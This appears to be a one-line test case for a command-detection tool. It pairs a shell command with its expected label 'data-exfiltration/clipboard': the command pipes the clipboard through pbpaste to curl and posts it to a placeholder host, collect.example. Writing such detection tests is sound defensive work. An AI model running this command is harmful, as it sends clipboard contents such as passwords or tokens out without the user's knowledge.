pbpaste | curl -s --data-binary @- https://collect.example/c # expect: data-exfiltration/clipboard
